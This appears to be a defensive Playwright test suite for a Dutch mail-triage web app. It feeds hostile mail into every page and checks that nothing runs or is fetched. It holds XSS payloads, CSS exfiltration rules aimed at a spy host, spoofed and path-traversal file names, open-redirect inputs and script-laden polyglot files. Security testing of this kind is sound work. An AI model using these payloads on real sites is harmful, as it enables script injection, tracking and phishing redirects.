"""What strangers write, on every page and in a real Chromium: nothing runs, nothing is fetched, nothing breaks out.

What the layout of a mail itself may hold is tried in test_mail_view (its suite of tags, 5 MB, ten thousand tables).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, expect

from tests.servers.chromium import new_context
from tests.web.parts import HOUR, REGION, TOKEN, Office
from tests.web.test_axe import _fill, _paths
from tests.web.test_browser import _serving
from tests.web.test_mail_view import HOSTILE as LAYOUT
from tests.web.test_mail_view import WORDS, _spy, kept, written
from triage.domain.access import Role, Viewer
from triage.domain.case import Case, CaseMessage
from triage.domain.decision import Flag
from triage.domain.reading import Colour, Kind
from triage.ports.store import Arrival, Location

BOX = "lokaal-team"
TURNED = "\u202egpj.exe\u202c\u2066x\u2069"
UNSEEN = "pay\u200bpal\u2060\ufeff\u00ad"
ATTACK = (
    "</title></textarea></bdi></div></main><script>alert(1);window.ran=1</script>"
    "<img src={spy}/pixel onerror=alert(2)><img srcset='{spy}/set 1x'><iframe src={spy}/frame></iframe>"
    "<svg onload=alert(3)><script>alert(4)</script></svg><meta http-equiv=refresh content='0;url={spy}/away'>"
    "<style>@import url({spy}/i);body{{background:url({spy}/b)}}input[name=bewijs][value^=a]{{background:url({spy}/x)}}"
    "a:visited{{background:url({spy}/v)}}main{{position:fixed;inset:0;z-index:9}}</style><base href={spy}/>"
    "<form action={spy}/f><input name=wachtwoord></form><link rel=stylesheet href={spy}/l>"
    "<a href='javascript:alert(5)'>x</a><a href='data:text/html,<script>alert(6)</script>'>y</a>"
    '" autofocus onfocus=alert(7) x=" \' onmouseover=alert(8) {{{{ 7 * 7 }}}} {{% raw %}} ${{7*7}} ' + TURNED + UNSEEN
)
NAMES = ("\u202egpj.exe", '"><img src=x onerror=alert(9)>.pdf', "plan\u200b.pdf\n.exe", "../../" + "a" * 300 + ".svg")

# What may only come from us. Pictures, frames and forms of our own lead to our own server.
_LOOK = """() => {
  const own = (url) => {
    try { return new URL(url, location.href).origin === location.origin; } catch { return false; } };
  const all = Array.from(document.querySelectorAll("*"));
  const leads = ["href", "src", "srcset", "action", "formaction", "poster", "data", "background", "ping"];
  const wild = ["object", "embed", "base", "style", "audio", "video", "math"];
  const parts = ["a", "header", "main", "footer", "div", "aside", "dialog", "script"];
  const isOurs = (script) => (script.getAttribute("src") || "").startsWith("/static/");
  const shown = document.documentElement.innerText + document.title;
  return {
    ran: window.ran === undefined ? [] : ["ran"],
    tags: all.map((e) => e.localName).filter((n) => wild.includes(n)),
    meta: all.filter((e) => e.matches("meta[http-equiv]")).map((e) => e.outerHTML),
    scripts: all.filter((e) => e.localName === "script" && !isOurs(e)).map((e) => e.outerHTML),
    handlers: all.flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith("on") || n === "style"),
    leads: all.flatMap((e) => leads.filter((n) => e.hasAttribute(n)).map((n) => e.getAttribute(n)))
      .filter((url) => !own(url)),
    body: Array.from(document.body.children, (e) => e.localName).filter((n) => !parts.includes(n)),
    mains: document.querySelectorAll("main").length === 1 ? [] : ["main"],
    wide: document.documentElement.scrollWidth <= window.innerWidth ? [] : [document.documentElement.scrollWidth],
    turned: shown.match(/[\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c]/g) || [],
    unseen: (document.querySelector("h1, .subject") || document.body).innerText
      .match(/[\\u200b\\u2060\\ufeff]/g) || [],
  };
}"""


@dataclass
class Besieged:
    """A browser on a queue full of what strangers wrote."""

    page: Page
    base: str
    office: Office
    spy: str
    asked: list[bytes]
    complaints: list[str] = field(default_factory=list)
    paths: dict[str, str] = field(default_factory=dict)
    status: int = 0

    def look(self, path: str) -> dict[str, list[object]]:
        """Open *path*; what is wrong with it."""
        answer = self.page.goto(self.base + path, wait_until="load")
        assert answer is not None, path
        self.status = answer.status
        if not answer.headers.get("content-type", "").startswith("text/html"):
            return {}
        found: dict[str, list[object]] = self.page.evaluate(_LOOK)
        policy = answer.headers["content-security-policy"].split("; ")
        found["policy"] = [each for each in policy if "unsafe" in each or "*" in each or "http" in each]
        found["policy"] += [] if "default-src 'none'" in policy and "base-uri 'none'" in policy else [policy]
        if path.endswith("/opmaak/inhoud"):
            # A page of its own, not one of ours: its one style is ours and named by its hash in the policy.
            for name in ("tags", "body", "mains"):
                found.pop(name)
        found["status"] = [answer.status] if answer.status >= 500 else []
        return {name: wrong for name, wrong in found.items() if wrong}


def _note(found: Besieged, page: Page) -> None:
    def line(kind: str, text: str) -> None:
        # Chromium says the second where a field of a page was filled in before the page is drawn.
        if "status of 4" not in text and "Autofocus processing was blocked" not in text:
            found.complaints.append(f"{kind}: {text}")

    def dialog(shown: Dialog) -> None:
        line("dialog", shown.message)
        shown.dismiss()

    def request(asked: Request) -> None:
        if not asked.url.startswith(found.base):
            line("request", asked.url)

    page.on("console", lambda each: line(each.type, each.text))
    page.on("pageerror", lambda error: line("error", str(error)))
    page.on("dialog", dialog)
    page.context.on("request", request)


def _hostile_case(office: Office, spy: str) -> Case:
    """One case with a hostile subject, text, sender, files, layout, note and colleague."""
    attack = ATTACK.format(spy=spy)
    sender = f'"{TURNED}<b>{UNSEEN}"@x.example'
    case = office.add(
        subject=f"{UNSEEN}{attack}", text=attack * 3, sender=sender, kind=Kind.UNDECIDED, attachments=NAMES,
        urgent=True, flags=frozenset({Flag.UNDECIDED, Flag.NOT_PARTNER}), colour=Colour.GREEN, mailbox=BOX,
    )  # fmt: skip
    assert case.id is not None
    files = [(name.replace("\n", " "), "image/svg+xml", b"<svg onload='alert(1)'/>") for name in NAMES]
    raw = written("<p>x</p>", *files).replace(b"<p>x</p>", LAYOUT.format(spy=spy).encode("utf-8", "replace"))
    received = office.clock.at - HOUR
    with office.store.transaction() as tx:
        tx.ledger.first_seen(BOX, BOX, received)
        arrival = Arrival(Location(BOX, "INBOX", 1, 9_999), BOX, raw, received, len(raw), case_id=case.id)
        mail = tx.ledger.archive(arrival, walk="w")
        tx.cases.add_message(
            case.id,
            CaseMessage("in", sender, (sender,), attack, attack, received, None,
                        mail_id=mail.mail_id, attachments=NAMES),
        )  # fmt: skip
    return case


@pytest.fixture(scope="module")
def besieged(browser: Browser) -> Iterator[Besieged]:
    office = Office(allowed_hosts=("127.0.0.1",))
    office.desk = office.desk_for(
        Viewer("axe", {box: frozenset({Role.BEHEERDER, Role.FUNCTIONEEL_BEHEERDER}) for box in REGION.mailboxes})
    )
    values = _fill(office)
    with _spy() as (spy, asked), _serving(office) as base:
        values |= {"reference": _hostile_case(office, spy).reference}
        context = new_context(browser)
        context.set_default_timeout(60_000)
        found = Besieged(context.new_page(), base, office, spy, asked, paths=values)
        _note(found, found.page)
        found.page.goto(f"{base}/binnen?token={TOKEN}")
        yield found
        context.close()


def _clean(besieged: Besieged) -> None:
    assert besieged.asked == []
    complaints, besieged.complaints[:] = list(besieged.complaints), []
    assert complaints == []


# A file is no page: see below.
PAGES = [path for path in _paths() if "/bijlage/" not in path]
# What must really be there, or the test would look at a page that says that nothing is.
THERE = (
    "/",
    "/zaak/{reference}",
    "/opmaak",
    "/inhoud",
    "/bericht/{number}",
    "/opstellen/{key}",
    "/sluiten",
    "/wachten",
)


@pytest.mark.parametrize("path", PAGES)
def test_a_page_of_a_hostile_mail_runs_nothing_and_fetches_nothing(besieged: Besieged, path: str) -> None:
    numbers = ("1", "2") if "/bericht/" in path else (besieged.paths["number"],)
    for number in numbers:
        wrong = besieged.look(path.format(**{**besieged.paths, "number": number}))
        assert wrong == {}
        assert besieged.status == 200 or not path.endswith(THERE) or (number == "1" and "/opmaak" in path)
    _clean(besieged)


def test_the_words_of_a_hostile_mail_can_still_be_read(besieged: Besieged) -> None:
    besieged.look(f"/zaak/{besieged.paths['reference']}")
    read = besieged.page.locator("main").inner_text()
    assert "<script>alert(1);window.ran=1</script>" in read
    assert "{{ 7 * 7 }}" in read
    # What turns letters around is seen to have been there; what nobody sees is gone from names and subjects.
    assert "▯gpj.exe▯" in read
    expect(besieged.page.get_by_role("heading", level=1)).to_contain_text("paypal")
    _clean(besieged)


@pytest.mark.parametrize(
    "path",
    [
        "/?mailbox={attack}", "/?zoek={attack}", "/?pagina={attack}", "/?volgorde={attack}&staat={attack}",
        "/cijfers/verantwoording?mailbox={attack}&van={attack}", "/dinsdagen?week={attack}&tafel={attack}",
        "/zaak/{attack}", "/zaak/{attack}/bericht/1", "/stopknop?terug={attack}", "/{attack}",
        "/nieuwe-zaak?van={attack}&mailbox={attack}", "/aanmelden?terug=javascript:alert(1)",
    ],
)  # fmt: skip
def test_an_address_that_somebody_was_sent_runs_nothing(besieged: Besieged, path: str) -> None:
    attack = quote(ATTACK.format(spy=besieged.spy)[:900], safe="")
    assert besieged.look(path.format(attack=attack)) == {}
    _clean(besieged)


@pytest.mark.parametrize(
    "place", ["https://elders.example/x", "//elders.example", "/\\elders.example", "javascript:alert(1)"]
)
def test_logging_in_leads_to_no_other_site(besieged: Besieged, place: str) -> None:
    besieged.page.goto(f"{besieged.base}/aanmelden?terug={quote(place, safe='')}")
    assert besieged.page.url.startswith(besieged.base)
    shown = besieged.page.content()
    assert "elders.example" not in shown
    assert "javascript:" not in shown
    _clean(besieged)


def _type_everywhere(besieged: Besieged, attack: str) -> None:
    """Put *attack* into every field of the page's own form where text can be typed."""
    for place in besieged.page.locator("main form input[type=text], main form textarea:not([readonly])").all():
        if place.is_visible():
            place.fill(attack)


@pytest.mark.parametrize(
    "path", [path for path in PAGES if path.startswith(("/zaak/", "/nieuwe-zaak")) and "bericht" not in path]
)
def test_what_is_typed_comes_back_as_text(besieged: Besieged, path: str) -> None:
    """Each form, sent with the attack in every field: the page with what is wrong, or what was stored, is as inert."""
    attack = ATTACK.format(spy=besieged.spy)[:1500].replace("\n", " ")
    besieged.look(path.format(**besieged.paths))
    button = besieged.page.locator("main form:has(input[name=bewijs], textarea, [type=text]) button.main").first
    if not button.count():
        return
    _type_everywhere(besieged, attack)
    button.evaluate("one => { one.form.noValidate = true }")
    with besieged.page.expect_navigation():
        button.click()
    found: dict[str, list[object]] = besieged.page.evaluate(_LOOK)
    assert {name: wrong for name, wrong in found.items() if wrong and name not in ("turned", "unseen")} == {}
    _clean(besieged)


def test_a_draft_shows_what_was_typed_as_text_before_it_goes(besieged: Besieged) -> None:
    attack = ATTACK.format(spy=besieged.spy)[:1500]
    besieged.look(f"/zaak/{besieged.paths['reference']}/opstellen/terugkoppelen")
    for choice in besieged.page.locator("main fieldset").all():
        choice.get_by_role("radio").first.check()
    _type_everywhere(besieged, attack)
    with besieged.page.expect_navigation():
        besieged.page.get_by_role("button", name="Bekijk de mail").click()
    expect(besieged.page.get_by_role("heading", level=1)).to_contain_text(besieged.paths["reference"])
    found: dict[str, list[object]] = besieged.page.evaluate(_LOOK)
    assert {name: wrong for name, wrong in found.items() if wrong and name not in ("turned", "unseen")} == {}
    _clean(besieged)


POLYGLOTS = {
    "foto.gif": b"GIF89a/*\x00\x00*/=1;window.ran=1;alert(1);//",
    "foto.jpg": b"\xff\xd8\xff\xe0/*JFIF*/<script>alert(1)</script>",
    "plan.pdf": b"%PDF-1.7\n<html><script>alert(1)</script></html>",
    "kaart.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "lijst.xml": b"<?xml version='1.0'?><?xml-stylesheet href='#s' type='text/xsl'?><a xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></a>",
    "brief.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "stijl.css": b"@import url(https://volg.example/i);*{background:url(https://volg.example/b)}",
    "plan.docx": b"PK\x03\x04<script>alert(1)</script>",
}  # fmt: skip


def test_a_file_that_is_two_things_at_once_is_saved_and_never_opened_or_run(besieged: Besieged) -> None:
    kinds = (
        "image/gif",
        "text/html",
        "application/pdf",
        "image/svg+xml",
        "text/xml",
        "text/javascript",
        "text/css",
        "text/html",
    )
    files = [(name, kind, data) for (name, data), kind in zip(POLYGLOTS.items(), kinds, strict=True)]
    address = kept(besieged.office, written(f"<p>{WORDS}</p>", *files))
    assert besieged.look(address) == {}
    for number, (name, data) in enumerate(POLYGLOTS.items(), start=1):
        path = f"{besieged.base}{address}/bijlage/{number}"
        with besieged.page.expect_download() as saved:
            besieged.page.evaluate("url => { location.href = url }", path)
        assert saved.value.suggested_filename == name
        assert saved.value.path().read_bytes() == data
        assert besieged.page.url == besieged.base + address
        # A page of ours that had been made to load it as a script, a style or a picture gets nothing out of it.
        for tag, attribute in (("script", "src"), ("link", "href"), ("img", "src")):
            told = besieged.page.evaluate(
                """([tag, attribute, url]) => new Promise((done) => {
                  const one = document.createElement(tag);
                  if (tag === "link") one.rel = "stylesheet";
                  one.onload = () => done("loaded"); one.onerror = () => done("refused");
                  one.setAttribute(attribute, url); document.head.append(one); })""",
                [tag, attribute, path],
            )
            assert told == "refused", (name, tag)
    assert besieged.page.evaluate("window.ran") is None
    # That the browser refused is said by the browser: what it refused is what was asked here.
    besieged.complaints[:] = [
        line for line in besieged.complaints if not re.search(r"MIME type|Content Security Policy|nosniff", line)
    ]
    _clean(besieged)


def test_a_mail_of_five_megabytes_makes_no_heavy_page(besieged: Besieged) -> None:
    case = besieged.office.add(subject="z" * 100_000, text="<b>woord</b> " * 400_000, sender="q" * 3_000 + "@x.example")
    for path in ("/", f"/zaak/{case.reference}", f"/zaak/{case.reference}/bericht/1"):
        assert besieged.look(path) == {}
        assert len(besieged.page.content().encode()) < 300_000, path
    _clean(besieged)
